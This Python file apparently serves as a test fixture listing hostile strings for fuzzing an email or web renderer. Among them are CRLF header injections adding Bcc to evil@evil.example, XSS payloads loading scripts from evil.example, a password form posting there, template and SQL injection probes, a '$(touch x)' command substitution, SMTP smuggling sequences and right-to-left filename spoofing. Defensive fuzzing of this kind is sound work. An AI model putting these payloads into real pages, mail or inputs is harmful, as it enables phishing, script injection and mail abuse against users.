"""Strings that somebody on the web may put into a title, a name or a quote to reach what is behind them."""

_BREAKS = (
    "\r\n", "\n", "\r", "\r\n ", "\n\t", "\n\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
    "%0d%0a", "\\r\\n",
)  # fmt: skip
_HEADERS = (
    "Bcc: evil@evil.example", "Subject: won", "Content-Type: text/html\r\n\r\n<b>x</b>", "X-Evil: 1",
    "--boundary--", "List-Unsubscribe: <https://evil.example/>",
)  # fmt: skip
_MARKUP = (
    "<script>document.title='run'</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=document.title='run'>", "<svg/onload=document.title='run'>", "<svg><script>1</script></svg>",
    "<iframe src=https://evil.example/></iframe>", "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password></form>", "<a href=https://evil.example/>board</a>",
    "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "</body></html><p>behind", "</blockquote></div>",
    "</mark></td></tr></table>", "</title><script>1</script>", "</style><script>1</script>", "<!-- <b>",
    "--><b>x</b>",
    "<![CDATA[<b>x</b>]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<b>bold", "<bdo dir=rtl>x</bdo>",
    "<br>" * 20,
    "\"><b>x</b>", "'><b>x</b>", "\" onmouseover=alert(1) x=\"", "' style='background:url(https://evil.example/)",
    "` onmouseover=alert(1)", "&lt;script&gt;1&lt;/script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;",
    "&amp;lt;b&amp;gt;",
    "\uff1cscript\uff1e1\uff1c/script\uff1e", "<\x00script>1</script>", "<scr\u202eipt>",
    "<math><mtext></mtext></math>",
    "<video poster=https://evil.example/x>", "<details open ontoggle=alert(1)>", "<template><b>x</b></template>",
    "javascript:alert(1)", "data:text/html,<b>x</b>", "https://evil.example/", "cid:chart@bayan.example",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 7 }}", "{% raw %}", "{% for x in y %}", "{# x", "{{ ''.__class__ }}", "${7*7}", "<%= 7 %>",
    "%s %(x)s {0} {x}",
    "$(touch x)", "'; DROP TABLE alerts; --",
)  # fmt: skip
_ENCODED = (
    "=?utf-8?q?Bcc:_evil=40evil.example?=", "=?utf-8?b?QmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?=",
    "=?utf-8?q?=0D=0ABcc:_x?=",
    "=?utf-7?q?+AA0ACg-Bcc:?=", "=?x?z?y?=", "=\x00?utf-8?q?=0D=0ABcc:_x?=", "=\u202e?utf-8?b?DQpCY2M6IHg=?=",
    "=?utf-8?q?" + "=41" * 200 + "?=", "?= =?utf-8?q?x?=", "=\r\n", "=3Cb=3E",
)  # fmt: skip
_SMTP = (".", "..", "\r\n.\r\n", "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n", "\n.\nQUIT\n", "\r\n..\r\n", "From x")
_ADDRESSES = (
    "evil@evil.example", "<evil@evil.example>", "a, evil@evil.example", "a; evil@evil.example;",
    '"x" <evil@evil.example>',
    "undisclosed: evil@evil.example;", "(comment) evil@evil.example", "Bayan <bayan@bayan.example>",
)  # fmt: skip
_TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u206a\u206b\u206e\u206f"
_UNSEEN = (
    "\u200b\u200c\u200d\u2060\u00ad\ufeff\ufff9\ufffa\ufffb\ufffe\uffff\ufdd0\U000e0041\U000e007f\ufe0f\u034f\u3164"
)
_LONG = (
    "x" * 998, "x" * 1001, "x" * 5000, "ط" * 1000, "ط" * 4000, "\u0640" * 2000, "😀" * 500, "a" + "\u0301" * 500,
    "ب" + "\u064b" * 300, "x " * 3000, " " * 2000, "https://evil.example/" + "a" * 3000, "َ" * 100,
)  # fmt: skip
_EMOJI = (
    "😀",
    "👩‍👩‍👧‍👦",
    "🏴‍☠️",
    "🇮🇶🇱🇧",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "👍🏽",
    "1️⃣",
    "❤️‍🔥",
    "🧑🏿‍🚀",
    "☠︎",
    "🫠" * 50,
    "𓀀𐎀",
    "\U0001f1ee",
    "\u200d\ufe0f",
)
_HALVES = (
    "\ud800", "\udfff", "a\udc80b", "\ud83d x", "\ude00\ud83d", "\ud800" * 100, "\udc0d\udc0a", "ط\ud800ط",
    "\udcff<b>",
    "\ud800\r\nBcc: x",
)  # fmt: skip

HOSTILE = tuple(
    dict.fromkeys(
        (
            *(f"x{line}{header}" for line in _BREAKS for header in _HEADERS),
            *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))),
            *(f"abc{turn}def{turn}" for turn in _TURNS),
            *(f"بيان{turn}gpj.exe" for turn in _TURNS),
            *(f"ا{unseen}ب" for unseen in _UNSEEN),
            *_MARKUP, *_TEMPLATES, *_ENCODED, *_SMTP, *_ADDRESSES, *_LONG, *_EMOJI, *_HALVES,
        )
    )
)  # fmt: skip
